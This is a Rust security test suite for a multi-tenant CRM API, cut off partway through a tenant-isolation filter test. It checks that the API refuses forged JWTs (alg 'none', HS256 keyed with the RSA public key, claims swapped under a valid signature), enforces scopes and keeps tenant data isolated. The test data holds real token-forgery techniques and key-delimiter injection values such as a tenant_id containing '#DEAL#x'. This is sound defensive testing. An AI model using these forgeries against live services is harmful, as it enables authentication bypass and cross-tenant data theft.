//! Security suites: token verification, tenant isolation, application keys and hostile input.
//! Every refusal must be a 4xx in the documented envelope; nothing may answer 5xx.

use http::Method;
use integration_tests::{id_of, test_config, TestApi, TestResponse, ALL_SCOPES};
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use serde_json::{json, Value};

const TRUSTED_PRIVATE_KEY: &str = include_str!("../../fixtures/rsa-private.pem");
const TRUSTED_PUBLIC_KEY: &str = include_str!("../../fixtures/rsa-public.pem");
const UNTRUSTED_PRIVATE_KEY: &str = include_str!("../../fixtures/rsa-untrusted-private.pem");

const DEALS: &str = "/api/v1/crm/deals";
const SUBJECT: &str = "usr-5e0c1c8a-35a4-4f3c-9d2e-1b7c6f0a9d11";

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

fn now() -> u64 {
    jsonwebtoken::get_current_timestamp()
}

/// Unpadded base64url, as JWT segments are written.
fn base64url(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::with_capacity(bytes.len() * 4 / 3 + 3);
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().enumerate().fold(0u32, |acc, (i, byte)| {
            acc | (u32::from(*byte) << (16 - 8 * i))
        });
        for i in 0..=chunk.len() {
            out.push(char::from(ALPHABET[((bits >> (18 - 6 * i)) & 63) as usize]));
        }
    }
    out
}

/// Valid claims for `api`'s tenant with every scope, with `changes` merged in.
fn claims(api: &TestApi, changes: Value) -> Value {
    let now = now();
    let mut claims = json!({
        "sub": SUBJECT,
        "tenant_id": api.tenant,
        "scope": ALL_SCOPES,
        "iss": api.config.jwt.issuer,
        "aud": api.config.jwt.audience,
        "iat": now,
        "exp": now + 600,
    });
    for (name, value) in changes.as_object().expect("changes are an object") {
        claims[name] = value.clone();
    }
    claims
}

fn without(mut claims: Value, name: &str) -> Value {
    claims
        .as_object_mut()
        .expect("claims are an object")
        .remove(name);
    claims
}

fn hs256(claims: &Value, secret: &[u8]) -> String {
    jsonwebtoken::encode(
        &Header::new(Algorithm::HS256),
        claims,
        &EncodingKey::from_secret(secret),
    )
    .expect("HS256 token")
}

fn rs256(claims: &Value, private_pem: &str) -> String {
    let key = EncodingKey::from_rsa_pem(private_pem.as_bytes()).expect("RSA private key");
    jsonwebtoken::encode(&Header::new(Algorithm::RS256), claims, &key).expect("RS256 token")
}

/// A token assembled by hand: any header, any claims, any signature text.
fn hand_built(header: &Value, claims: &Value, signature: &str) -> String {
    format!(
        "{}.{}.{signature}",
        base64url(header.to_string().as_bytes()),
        base64url(claims.to_string().as_bytes())
    )
}

/// The test secret, signing tokens the default test configuration accepts.
fn secret(api: &TestApi) -> Vec<u8> {
    api.config
        .jwt
        .secret
        .clone()
        .expect("the test configuration has an HS256 secret")
        .into_bytes()
}

/// A context that trusts the fixture's RSA public key besides the HS256 test secret.
async fn rsa_api() -> TestApi {
    let mut config = test_config();
    config.jwt.public_key_pem = Some(TRUSTED_PUBLIC_KEY.into());
    TestApi::with_config(config).await
}

fn is_documented(uri: &str) -> bool {
    uri == "/api-v1-deals" || uri.starts_with("/api-v1-deals/") || uri.starts_with("/api-v1-deals?")
}

/// The documented view's envelope: `{"error":{"code","message"}}`, `details` only when there
/// are some, no `request_id` (that is in the `X-Request-Id` header).
fn documented_error(response: &TestResponse) -> (String, String, Vec<String>) {
    let error = &response.body["error"];
    assert!(
        error.is_object(),
        "not an error envelope: {}",
        response.body
    );
    assert!(
        error.get("request_id").is_none(),
        "the documented envelope has no request_id: {}",
        response.body
    );
    assert!(
        response
            .header("x-request-id")
            .is_some_and(|id| !id.is_empty()),
        "no X-Request-Id header"
    );
    let fields = match error.get("details") {
        None => Vec::new(),
        Some(details) => details
            .as_array()
            .expect("details is an array")
            .iter()
            .map(|detail| {
                assert!(detail["message"].is_string(), "detail without message");
                detail["field"].as_str().expect("detail field").to_owned()
            })
            .collect(),
    };
    (
        error["code"].as_str().expect("code").to_owned(),
        error["message"].as_str().expect("message").to_owned(),
        fields,
    )
}

/// Asserts a 4xx in the envelope of the view `uri` belongs to; returns (code, message, fields).
fn refusal(response: &TestResponse, what: &str, uri: &str) -> (String, String, Vec<String>) {
    assert!(
        (400..500).contains(&response.status),
        "{what}: expected a 4xx, got {} {}",
        response.status,
        response.body
    );
    assert!(
        response.body.get("data").is_none(),
        "{what}: a refusal carries no data: {}",
        response.body
    );
    if is_documented(uri) {
        documented_error(response)
    } else {
        response.error()
    }
}

/// Asserts exactly this status and code in the envelope; returns (message, fields).
fn expect_error(
    response: &TestResponse,
    status: u16,
    code: &str,
    what: &str,
    uri: &str,
) -> (String, Vec<String>) {
    assert_eq!(
        response.status, status,
        "{what}: {uri} answered {}",
        response.body
    );
    let (actual, message, fields) = refusal(response, what, uri);
    assert_eq!(actual, code, "{what}: {uri}: {}", response.body);
    (message, fields)
}

/// Never a 5xx; a 4xx is in the envelope. Returns the status.
fn no_server_error(response: &TestResponse, what: &str, uri: &str) -> u16 {
    assert!(
        response.status < 500,
        "{what}: {uri} answered {} {}",
        response.status,
        response.body
    );
    if response.status >= 400 {
        refusal(response, what, uri);
    }
    response.status
}

async fn get(api: &TestApi, uri: &str) -> TestResponse {
    api.call(Method::GET, uri).send().await
}

fn data_ids(body: &Value) -> Vec<String> {
    body["data"]
        .as_array()
        .expect("data is a list")
        .iter()
        .map(id_of)
        .collect()
}

// ---------------------------------------------------------------------------------------------
// 1. JWT
// ---------------------------------------------------------------------------------------------

/// Endpoints every bad token is tried on: reads and writes, both deal views, records and stages.
fn auth_probes() -> Vec<(Method, &'static str, Option<Value>)> {
    vec![
        (Method::GET, DEALS, None),
        (Method::POST, DEALS, Some(json!({"name": "must not exist"}))),
        (Method::GET, "/api/v1/crm/stages", None),
        (Method::GET, "/api/v1/crm/accounts", None),
        (
            Method::POST,
            "/api/v1/crm/users",
            Some(json!({"full_name": "must not exist"})),
        ),
        (Method::GET, "/api-v1-deals", None),
        (
            Method::POST,
            "/api-v1-deals",
            Some(json!({"title": "must not exist"})),
        ),
    ]
}

/// Sends `authorization` (a whole header value) to every probe: each must be 401 UNAUTHORIZED
/// in its envelope with `WWW-Authenticate: Bearer`.
async fn assert_unauthorized(api: &TestApi, what: &str, authorization: &str) {
    for (method, uri, body) in auth_probes() {
        let mut call = api
            .anonymous(method.clone(), uri)
            .header("authorization", authorization);
        if let Some(body) = &body {
            call = call.json(body);
        }
        let response = call.send().await;
        expect_error(&response, 401, "UNAUTHORIZED", what, uri);
        assert_eq!(
            response.header("www-authenticate"),
            Some("Bearer"),
            "{what}: {method} {uri}"
        );
    }
}

/// Nothing the refused requests attempted was written.
async fn assert_nothing_written(api: &TestApi) {
    for uri in [DEALS, "/api/v1/crm/users"] {
        let list = get(api, uri).await;
        assert_eq!(list.status, 200, "{}", list.body);
        assert_eq!(list.body["data"], json!([]), "{uri}: {}", list.body);
    }
}

#[tokio::test]
async fn valid_tokens_are_accepted_as_controls() {
    let api = rsa_api().await;
    let hs = hs256(&claims(&api, json!({})), &secret(&api));
    let rs = rs256(&claims(&api, json!({})), TRUSTED_PRIVATE_KEY);
    let within_leeway = hs256(
        &claims(&api, json!({"exp": now() - 10, "nbf": now() + 10})),
        &secret(&api),
    );
    for (what, authorization) in [
        ("HS256 with the configured secret", format!("Bearer {hs}")),
        ("RS256 with the trusted key", format!("Bearer {rs}")),
        ("lower-case scheme", format!("bearer {rs}")),
        (
            "exp and nbf within the 30 s leeway",
            format!("Bearer {within_leeway}"),
        ),
    ] {
        for (method, uri, body) in auth_probes() {
            let mut call = api
                .anonymous(method.clone(), uri)
                .header("authorization", &authorization);
            if let Some(body) = &body {
                call = call.json(body);
            }
            let response = call.send().await;
            assert!(
                response.status == 200 || response.status == 201,
                "{what}: {method} {uri} answered {} {}",
                response.status,
                response.body
            );
        }
    }
    let created = api
        .anonymous(Method::POST, DEALS)
        .token(&rs)
        .json(&json!({"name": "signed by the trusted key"}))
        .send()
        .await;
    assert_eq!(created.status, 201, "{}", created.body);
    assert_eq!(created.body["data"]["tenant_id"], api.tenant.as_str());
    assert_eq!(created.body["data"]["created_by"], SUBJECT);
}

#[tokio::test]
async fn expired_and_not_yet_valid_tokens_are_401() {
    let api = rsa_api().await;
    let key = secret(&api);
    let cases = [
        (
            "expired",
            hs256(&claims(&api, json!({"exp": now() - 120})), &key),
        ),
        (
            "expired, RS256",
            rs256(
                &claims(&api, json!({"exp": now() - 120})),
                TRUSTED_PRIVATE_KEY,
            ),
        ),
        (
            "expired long ago",
            hs256(&claims(&api, json!({"exp": 1})), &key),
        ),
        (
            "no exp",
            hs256(&without(claims(&api, json!({})), "exp"), &key),
        ),
        (
            "not yet valid (nbf 90 s ahead)",
            hs256(&claims(&api, json!({"nbf": now() + 90})), &key),
        ),
        (
            "not yet valid (nbf a day ahead), RS256",
            rs256(
                &claims(&api, json!({"nbf": now() + 86_400})),
                TRUSTED_PRIVATE_KEY,
            ),
        ),
    ];
    for (what, token) in cases {
        assert_unauthorized(&api, what, &format!("Bearer {token}")).await;
    }
    assert_nothing_written(&api).await;
}

#[tokio::test]
async fn wrongly_signed_tokens_are_401() {
    let api = rsa_api().await;
    let valid = claims(&api, json!({}));
    let good = hs256(&valid, &secret(&api));
    let (head, rest) = good.split_once('.').expect("three parts");
    let (payload, signature) = rest.split_once('.').expect("three parts");
    let mut flipped = signature.to_owned();
    let last = flipped.pop().expect("a signature");
    flipped.push(if last == 'A' { 'B' } else { 'A' });
    // The same signature over other claims (another tenant).
    let forged_payload = base64url(
        claims(&api, json!({"tenant_id": "tenant-victim"}))
            .to_string()
            .as_bytes(),
    );
    let cases = [
        (
            "signed with another secret",
            hs256(&valid, b"someone else's secret"),
        ),
        ("signature altered", format!("{head}.{payload}.{flipped}")),
        ("signature removed", format!("{head}.{payload}.")),
        (
            "claims swapped under a valid signature",
            format!("{head}.{forged_payload}.{signature}"),
        ),
        (
            "RS256 signed by an untrusted key",
            rs256(&valid, UNTRUSTED_PRIVATE_KEY),
        ),
        (
            "RS256 header over an HS256 signature",
            hand_built(&json!({"alg": "RS256", "typ": "JWT"}), &valid, signature),
        ),
    ];
    for (what, token) in cases {
        assert_unauthorized(&api, what, &format!("Bearer {token}")).await;
    }
    // A context without the public key does not accept RS256 at all.
    let hs_only = TestApi::new().await;
    let rs = rs256(&claims(&hs_only, json!({})), TRUSTED_PRIVATE_KEY);
    assert_unauthorized(
        &hs_only,
        "RS256 without a configured public key",
        &format!("Bearer {rs}"),
    )
    .await;
    assert_nothing_written(&api).await;
}

#[tokio::test]
async fn unsigned_alg_none_tokens_are_401() {
    let api = rsa_api().await;
    let valid = claims(&api, json!({}));
    let real_signature = hs256(&valid, &secret(&api))
        .rsplit('.')
        .next()
        .expect("signature")
        .to_owned();
    for alg in ["none", "None", "NONE", "nOnE"] {
        let header = json!({"alg": alg, "typ": "JWT"});
        for signature in ["", "AAAA", real_signature.as_str()] {
            let token = hand_built(&header, &valid, signature);
            assert_unauthorized(
                &api,
                &format!("alg {alg}, signature {signature:?}"),
                &format!("Bearer {token}"),
            )
            .await;
        }
    }
    let no_alg = hand_built(&json!({"typ": "JWT"}), &valid, &real_signature);
    assert_unauthorized(&api, "header without alg", &format!("Bearer {no_alg}")).await;
    assert_nothing_written(&api).await;
}

#[tokio::test]
async fn hs256_signed_with_the_public_key_is_401() {
    // Algorithm confusion: the attacker knows the public key and "signs" HS256 with it, hoping
    // the server verifies HS256 with whatever key it holds.
    let both = rsa_api().await;
    let mut public_only_config = test_config();
    public_only_config.jwt.secret = None;
    public_only_config.jwt.public_key_pem = Some(TRUSTED_PUBLIC_KEY.into());
    let public_only = TestApi::with_config(public_only_config).await;
    for api in [&both, &public_only] {
        let valid = claims(api, json!({}));
        for (what, key) in [
            ("the PEM file as is", TRUSTED_PUBLIC_KEY.as_bytes().to_vec()),
            (
                "the PEM trimmed",
                TRUSTED_PUBLIC_KEY.trim().as_bytes().to_vec(),
            ),
        ] {
            let token = hs256(&valid, &key);
            assert_unauthorized(
                api,
                &format!("HS256 keyed with {what}"),
                &format!("Bearer {token}"),
            )
            .await;
        }
        // The trusted RS256 token itself works in both contexts: the refusal is about the
        // algorithm, not the claims.
        let rs = rs256(&valid, TRUSTED_PRIVATE_KEY);
        let response = api.anonymous(Method::GET, DEALS).token(&rs).send().await;
        assert_eq!(response.status, 200, "{}", response.body);
    }
    assert_nothing_written(&both).await;
}

#[tokio::test]
async fn tokens_with_wrong_or_missing_claims_are_401() {
    let api = rsa_api().await;
    let key = secret(&api);
    let base = claims(&api, json!({}));
    let cases = [
        (
            "wrong issuer",
            claims(&api, json!({"iss": "https://evil.example"})),
        ),
        ("no issuer", without(base.clone(), "iss")),
        ("wrong audience", claims(&api, json!({"aud": "other-api"}))),
        ("no audience", without(base.clone(), "aud")),
        ("missing tenant_id", without(base.clone(), "tenant_id")),
        ("empty tenant_id", claims(&api, json!({"tenant_id": ""}))),
        ("null tenant_id", claims(&api, json!({"tenant_id": null}))),
        ("numeric tenant_id", claims(&api, json!({"tenant_id": 42}))),
        (
            "tenant_id with #",
            claims(&api, json!({"tenant_id": format!("{}#DEAL#x", api.tenant)})),
        ),
        (
            "tenant_id of only #",
            claims(&api, json!({"tenant_id": "#"})),
        ),
        (
            "tenant_id with a space",
            claims(&api, json!({"tenant_id": "a b"})),
        ),
        (
            "tenant_id with a slash",
            claims(&api, json!({"tenant_id": "a/b"})),
        ),
        (
            "tenant_id of 129 characters",
            claims(&api, json!({"tenant_id": "t".repeat(129)})),
        ),
        ("missing sub", without(base.clone(), "sub")),
        ("empty sub", claims(&api, json!({"sub": ""}))),
        ("blank sub", claims(&api, json!({"sub": "   "}))),
        ("null sub", claims(&api, json!({"sub": null}))),
        (
            "app_id with #",
            claims(&api, json!({"app_id": "app#DEAL#x"})),
        ),
        ("empty app_id", claims(&api, json!({"app_id": ""}))),
    ];
    for (what, claims) in cases {
        assert_unauthorized(&api, what, &format!("Bearer {}", hs256(&claims, &key))).await;
        assert_unauthorized(
            &api,
            &format!("{what}, RS256"),
            &format!("Bearer {}", rs256(&claims, TRUSTED_PRIVATE_KEY)),
        )
        .await;
    }
    assert_nothing_written(&api).await;
}

#[tokio::test]
async fn malformed_authorization_headers_are_401() {
    let api = rsa_api().await;
    let valid = hs256(&claims(&api, json!({})), &secret(&api));
    let padded = hs256(
        &claims(&api, json!({"padding": "x".repeat(9 * 1024)})),
        &secret(&api),
    );
    let header = base64url(br#"{"alg":"HS256","typ":"JWT"}"#);
    let cases = [
        ("two parts", "Bearer abc.def".to_owned()),
        ("one part", "Bearer abcdef".to_owned()),
        ("four parts", format!("Bearer {valid}.extra")),
        ("bad base64", "Bearer !!!.@@@.###".to_owned()),
        ("bad base64 payload", format!("Bearer {header}.%%%%.abc")),
        (
            "payload not JSON",
            format!("Bearer {header}.{}.abc", base64url(b"not json")),
        ),
        (
            "payload a JSON list",
            format!("Bearer {header}.{}.abc", base64url(b"[1,2]")),
        ),
        (
            "header not JSON",
            format!("Bearer {}.{}.abc", base64url(b"{{{"), base64url(b"{}")),
        ),
        ("garbage", "Bearer garbage".to_owned()),
        ("dots only", "Bearer ..".to_owned()),
        ("three empty parts", "Bearer . . ".to_owned()),
        ("non-ASCII token", "Bearer ünïcödé.tökèn.sïg".to_owned()),
        ("Basic scheme", "Basic dXNlcjpwYXNz".to_owned()),
        ("Basic scheme with a JWT", format!("Basic {valid}")),
        ("Token scheme", format!("Token {valid}")),
        ("no scheme", valid.clone()),
        ("scheme only", "Bearer".to_owned()),
        ("scheme and blanks", "Bearer    ".to_owned()),
        ("two tokens", format!("Bearer {valid} {valid}")),
        (
            "valid token after a comma",
            format!("Bearer x, Bearer {valid}"),
        ),
        (
            "over 8 KB of garbage",
            format!("Bearer {}", "a".repeat(9 * 1024)),
        ),
        (
            "a validly signed token over 8 KB",
            format!("Bearer {padded}"),
        ),
        (
            "over 8 KB of valid token and blanks",
            format!("Bearer {valid}{}", " ".repeat(9 * 1024)),
        ),
    ];
    for (what, authorization) in cases {
        assert_unauthorized(&api, what, &authorization).await;
    }
    assert_nothing_written(&api).await;
}

#[tokio::test]
async fn valid_tokens_without_the_scope_are_403() {
    let api = rsa_api().await;
    let deal = api.create(json!({"name": "guarded"})).await;
    let id = id_of(&deal);
    let account = api.account("Guarded account").await;
    let deal_path = format!("{DEALS}/{id}");
    let token = |scope: &str| rs256(&claims(&api, json!({"scope": scope})), TRUSTED_PRIVATE_KEY);
    let no_scope_claim = rs256(
        &without(claims(&api, json!({})), "scope"),
        TRUSTED_PRIVATE_KEY,
    );
    let reader = token("read:deals");
    let writer = token("write:deals");
    let near_misses = token("READ:DEALS read:deal read:deals:all write:deals:x read write");
    let account_path = format!("/api/v1/crm/accounts/{account}");
    let cases: Vec<(&str, Method, String, Value)> = vec![
        (&reader, Method::POST, DEALS.into(), json!({"name": "x"})),
        (
            &reader,
            Method::PATCH,
            deal_path.clone(),
            json!({"name": "x"}),
        ),
        (
            &reader,
            Method::PATCH,
            format!("{deal_path}/stage"),
            json!({"stage": "qualified"}),
        ),
        (&reader, Method::DELETE, deal_path.clone(), json!({})),
        (
            &reader,
            Method::PATCH,
            format!("{DEALS}/deal_01ARZ3NDEKTSV4RRFFQ69G5FAV"),
            json!({"name": "x"}),
        ),
        (
            &reader,
            Method::POST,
            "/api-v1-deals".into(),
            json!({"title": "x"}),
        ),
        (
            &reader,
            Method::PATCH,
            format!("/api-v1-deals/{id}"),
            json!({"title": "x"}),
        ),
        (
            &reader,
            Method::POST,
            "/api/v1/crm/pipelines".into(),
            json!({"name": "x"}),
        ),
        (
            &reader,
            Method::PATCH,
            "/api/v1/crm/pipelines/default".into(),
            json!({"name": "x"}),
        ),
        (
            &reader,
            Method::GET,
            "/api/v1/crm/accounts".into(),
            json!({}),
        ),
        (&reader, Method::GET, account_path.clone(), json!({})),
        (&reader, Method::DELETE, account_path.clone(), json!({})),
        (&reader, Method::GET, "/api/v1/crm/users".into(), json!({})),
        (
            &reader,
            Method::POST,
            "/api/v1/crm/contacts".into(),
            json!({"first_name": "x"}),
        ),
        (&writer, Method::GET, DEALS.into(), json!({})),
        (&writer, Method::GET, deal_path.clone(), json!({})),
        (
            &writer,
            Method::GET,
            format!("{deal_path}/history"),
            json!({}),
        ),
        (&writer, Method::GET, "/api-v1-deals".into(), json!({})),
        (
            &writer,
            Method::GET,
            "/api/v1/crm/pipelines".into(),
            json!({}),
        ),
        (&writer, Method::GET, "/api/v1/crm/stages".into(), json!({})),
        (
            &writer,
            Method::POST,
            "/api/v1/crm/pipelines".into(),
            json!({"name": "x"}),
        ),
        (
            &writer,
            Method::POST,
            "/api/v1/crm/accounts".into(),
            json!({"name": "x"}),
        ),
        (&no_scope_claim, Method::GET, DEALS.into(), json!({})),
        (
            &no_scope_claim,
            Method::POST,
            DEALS.into(),
            json!({"name": "x"}),
        ),
        (&near_misses, Method::GET, DEALS.into(), json!({})),
        (
            &near_misses,
            Method::POST,
            DEALS.into(),
            json!({"name": "x"}),
        ),
        (&near_misses, Method::DELETE, deal_path.clone(), json!({})),
    ];
    for (token, method, uri, body) in cases {
        let mut call = api.anonymous(method.clone(), &uri).token(token);
        if body != json!({}) {
            call = call.json(&body);
        }
        let response = call.send().await;
        expect_error(&response, 403, "FORBIDDEN", &format!("{method}"), &uri);
    }
    let unchanged = get(&api, &deal_path).await;
    assert_eq!(unchanged.status, 200);
    assert_eq!(unchanged.body["data"]["version"], 1);
    assert_eq!(unchanged.body["data"]["name"], "guarded");
    assert_eq!(data_ids(&get(&api, DEALS).await.body), [id]);
    assert_eq!(
        get(&api, "/api/v1/crm/pipelines").await.body["data"]
            .as_array()
            .map(Vec::len),
        Some(1)
    );
    assert_eq!(
        data_ids(&get(&api, "/api/v1/crm/accounts").await.body),
        [account]
    );
    assert_eq!(
        get(&api, "/api/v1/crm/contacts").await.body["data"],
        json!([])
    );
}

// ---------------------------------------------------------------------------------------------
// 2. Tenant isolation
// ---------------------------------------------------------------------------------------------

/// Tenant A with one of everything: records, a pipeline of its own, a deal in a custom stage
/// that refers to every record (version 1), and a deal with a stage change (history).
struct TenantA {
    api: TestApi,
    user: String,
    account: String,
    contact: String,
    pipeline: String,
    stages: Vec<String>,
    deal: String,
    moved: String,
}

const A_DEAL_NUMBER: &str = "DEAL-2031-77777";
const A_NAME: &str = "Tenant A secret deal";
const A_TAG: &str = "tenant-a-only";

impl TenantA {
    async fn seeded() -> TenantA {
        let api = TestApi::new().await;
        let user = api.user("Alice Owner").await;
        let account = api.account("Alice Corp").await;
        let contact = id_of(
            &api.create_in(
                "contacts",
                json!({"first_name": "Alan", "last_name": "Contact", "account_id": account}),
            )
            .await,
        );
        let pipeline = api
            .create_in(
                "pipelines",
                json!({"name": "A's partners", "stages": [
                    {"name": "Intro"}, {"name": "Signed", "kind": "won"}, {"name": "Dropped", "kind": "lost"}
                ]}),
            )
            .await;
        let stages: Vec<String> = pipeline["stages"]
            .as_array()
            .expect("stages")
            .iter()
            .map(id_of)
            .collect();
        let deal = api
            .create(json!({
                "name": A_NAME, "stage": stages[0], "value": 123456, "owner_id": user,
                "account_id": account, "primary_contact_id": contact, "contact_ids": [contact],
                "tags": [A_TAG], "deal_number": A_DEAL_NUMBER, "custom_fields": {"secret": "a"}
            }))
            .await;
        let moved = id_of(
            &api.create(json!({"name": "A moved deal", "owner_id": user}))
                .await,
        );
        let response = api
            .call(Method::PATCH, &format!("{DEALS}/{moved}/stage"))
            .json(&json!({"stage": "qualified"}))
            .send()
            .await;
        assert_eq!(response.status, 200, "{}", response.body);
        TenantA {
            user,
            account,
            contact,
            pipeline: id_of(&pipeline),
            stages,
            deal: id_of(&deal),
            moved,
            api,
        }
    }

    /// Every id of A that another tenant must never see.
    fn ids(&self) -> Vec<String> {
        let mut ids = vec![
            self.user.clone(),
            self.account.clone(),
            self.contact.clone(),
            self.pipeline.clone(),
            self.deal.clone(),
            self.moved.clone(),
            self.api.tenant.clone(),
        ];
        ids.extend(self.stages.iter().cloned());
        ids
    }

    /// What A's items look like, to compare before and after another tenant's attempts.
    async fn snapshot(&self) -> Vec<(String, Value)> {
        let mut uris = vec![
            format!("{DEALS}/{}", self.deal),
            format!("{DEALS}/{}", self.moved),
            format!("{DEALS}/{}/history", self.moved),
            format!("/api-v1-deals/{}", self.deal),
            format!("/api/v1/crm/accounts/{}", self.account),
            format!("/api/v1/crm/contacts/{}", self.contact),
            format!("/api/v1/crm/users/{}", self.user),
            format!("/api/v1/crm/pipelines/{}", self.pipeline),
            "/api/v1/crm/pipelines".to_owned(),
            "/api/v1/crm/stages".to_owned(),
            "/api/v1/crm/accounts".to_owned(),
            "/api/v1/crm/contacts".to_owned(),
            "/api/v1/crm/users".to_owned(),
            DEALS.to_owned(),
        ];
        uris.push(format!(
            "{DEALS}?include=account,primary_contact,contacts,stage,pipeline,owner"
        ));
        let mut snapshot = Vec::new();
        for uri in uris {
            let response = get(&self.api, &uri).await;
            assert_eq!(response.status, 200, "{uri}: {}", response.body);
            snapshot.push((uri, response.body));
        }
        snapshot
    }

    async fn assert_unchanged(&self, before: &[(String, Value)]) {
        let after = self.snapshot().await;
        for ((uri, was), (_, is)) in before.iter().zip(&after) {
            assert_eq!(was, is, "{uri} changed");
        }
        let deal = get(&self.api, &format!("{DEALS}/{}", self.deal)).await;
        assert_eq!(deal.body["data"]["version"], 1);
        assert_eq!(deal.body["data"]["name"], A_NAME);
        assert_eq!(
            deal.body["data"]["included"]["account"]["name"],
            "Alice Corp"
        );
        for (kind, id) in [
            ("accounts", &self.account),
            ("contacts", &self.contact),
            ("users", &self.user),
        ] {
            let record = get(&self.api, &format!("/api/v1/crm/{kind}/{id}")).await;
            assert_eq!(record.body["data"]["version"], 1, "{kind}");
        }
    }

    fn assert_not_leaked(&self, response: &TestResponse, what: &str) {
        let text = response.body.to_string();
        for id in self.ids() {
            assert!(!text.contains(&id), "{what} shows A's {id}: {text}");
        }
        for name in [
            A_NAME,
            A_TAG,
            A_DEAL_NUMBER,
            "Alice",
            "Alan",
            "A's partners",
            "Intro",
        ] {
            assert!(!text.contains(name), "{what} shows A's {name}: {text}");
        }
    }
}

async fn send_with(api: &TestApi, method: Method, uri: &str, body: Option<&Value>) -> TestResponse {
    let call = api.call(method, uri);
    match body {
        Some(body) => call.json(body).send().await,
        None => call.send().await,
    }
}

#[tokio::test]
async fn another_tenant_gets_404_for_every_id_by_every_method() {
    let a = TenantA::seeded().await;
    let b = a.api.other_tenant();
    b.create(json!({"name": "B's own deal"})).await;
    let before = a.snapshot().await;
    let (deal, moved) = (&a.deal, &a.moved);
    let (pipeline, stage) = (&a.pipeline, &a.stages[0]);
    let name = json!({"name": "taken over"});
    let title = json!({"title": "taken over"});
    let mut cases: Vec<(Method, String, Option<Value>)> = vec![
        (Method::GET, format!("{DEALS}/{deal}"), None),
        (Method::GET, format!("{DEALS}/{deal}?include=account"), None),
        (Method::PATCH, format!("{DEALS}/{deal}"), Some(name.clone())),
        (
            Method::PATCH,
            format!("{DEALS}/{deal}/stage"),
            Some(json!({"stage": "lead"})),
        ),
        (
            Method::PATCH,
            format!("{DEALS}/{deal}/stage"),
            Some(json!({"stage": a.stages[1]})),
        ),
        (Method::DELETE, format!("{DEALS}/{deal}"), None),
        (Method::GET, format!("{DEALS}/{deal}/history"), None),
        (Method::GET, format!("{DEALS}/{moved}/history"), None),
        (Method::GET, format!("/api-v1-deals/{deal}"), None),
        (
            Method::PATCH,
            format!("/api-v1-deals/{deal}"),
            Some(title.clone()),
        ),
        (
            Method::PATCH,
            format!("/api-v1-deals/{deal}/stage"),
            Some(json!({"stage_id": "lead"})),
        ),
        (Method::DELETE, format!("/api-v1-deals/{deal}"), None),
        (
            Method::GET,
            format!("/api/v1/crm/pipelines/{pipeline}"),
            None,
        ),
        (
            Method::PATCH,
            format!("/api/v1/crm/pipelines/{pipeline}"),
            Some(name.clone()),
        ),
        (
            Method::DELETE,
            format!("/api/v1/crm/pipelines/{pipeline}"),
            None,
        ),
        (
            Method::GET,
            format!("/api/v1/crm/pipelines/{pipeline}/stages"),
            None,
        ),
        (
            Method::POST,
            format!("/api/v1/crm/pipelines/{pipeline}/stages"),
            Some(name.clone()),
        ),
        (
            Method::PATCH,
            format!("/api/v1/crm/pipelines/{pipeline}/stages/{stage}"),
            Some(name.clone()),
        ),
        (
            Method::PATCH,
            format!("/api/v1/crm/pipelines/{pipeline}/stages/{stage}"),
            Some(json!({"kind": "won"})),
        ),
        (
            Method::DELETE,
            format!("/api/v1/crm/pipelines/{pipeline}/stages/{stage}"),
            None,
        ),
        (
            Method::DELETE,
            format!("/api/v1/crm/pipelines/{pipeline}/stages/{stage}?move_to=lead"),
            None,
        ),
        // B's own default pipeline, A's stage.
        (
            Method::PATCH,
            format!("/api/v1/crm/pipelines/default/stages/{stage}"),
            Some(name.clone()),
        ),
        (
            Method::DELETE,
            format!("/api/v1/crm/pipelines/default/stages/{stage}"),
            None,
        ),
    ];
    for (kind, id, body, release) in [
        (
            "accounts",
            &a.account,
            json!({"name": "taken over"}),
            "?deals=detach",
        ),
        (
            "contacts",
            &a.contact,
            json!({"first_name": "taken over"}),
            "?deals=detach",
        ),
        (
            "users",
            &a.user,
            json!({"full_name": "taken over"}),
            "?deals=unassign",
        ),
    ] {
        let path = format!("/api/v1/crm/{kind}/{id}");
        cases.push((Method::GET, path.clone(), None));
        cases.push((Method::PATCH, path.clone(), Some(body)));
        cases.push((Method::DELETE, path.clone(), None));
        cases.push((Method::DELETE, format!("{path}{release}"), None));
    }
    for (method, uri, body) in &cases {
        for if_match in [None, Some("\"1\""), Some("*")] {
            let mut call = b.call(method.clone(), uri);
            if let Some(tag) = if_match {
                call = call.header("if-match", tag);
            }
            if let Some(body) = body {
                call = call.json(body);
            }
            let response = call.send().await;
            let what = format!("{method} with If-Match {if_match:?}");
            expect_error(&response, 404, "NOT_FOUND", &what, uri);
            a.assert_not_leaked(&response, &what);
        }
    }
    a.assert_unchanged(&before).await;
}

#[tokio::test]
async fn another_tenant_never_sees_items_in_lists_filters_or_includes() {
    let a = TenantA::seeded().await;
    let b = a.api.other_tenant();
    let own = id_of(
        &b.create(json!({"name": "B's own deal", "tags": ["b"]}))
            .await,
    );
    let before = a.snapshot().await;
    let (user, account, contact) = (&a.user, &a.account, &a.contact);
    let (pipeline, stage) = (&a.pipeline, &a.stages[0]);
    // Filters naming A's ids and values: nothing of A, and a total that does not count A's.
    let empty = [
        format!("owner_id={user}"),
        format!("owner_id[in]={user},{user}"),
        format!("owner_id[like]={user}"),
        format!("account_id={account}"),
        format!("account_id[in]={account}"),
        format!("primary_contact_id={contact}"),
        format!("stage={stage}"),
        format!("stage[in]={stage},{}", a.stages[1]),
        format!("pipeline_id={pipeline}"),
        format!("name={A_NAME}"),
        "name[like]=secret".to_owned(),
        format!("tags={A_TAG}"),
        format!("deal_number={A_DEAL_NUMBER}"),
        "value=123456".to_owned(),
        "value[gte]=100000".to_owned(),
        format!("stage={stage}&owner_id={user}"),
        format!("account_id={account}&sort=-value"),
        format!("owner_id={user}&sort=name"),
        "stage=qualified".to_owned(),
    ];
    for query in &empty {
        let uri = format!("{DEALS}?{query}");
        // The control: the same query finds A's deals for A.
        let control = get(&a.api, &uri).await;
        assert!(
            !data_ids(&control.body).is_empty(),
            "{uri} finds nothing even for A: {}",
            control.body
        );
        let response = get(&b, &uri).await;
        assert_eq!(response.status, 200, "{uri}: {}", response.body);
        assert_eq!(response.body["data"], json!([]), "{uri}");
        assert_eq!(
            response.body["pagination"]["total"], 0,
            "{uri}: {}",
            response.body
        );
        a.assert_not_leaked(&response, &uri);
    }
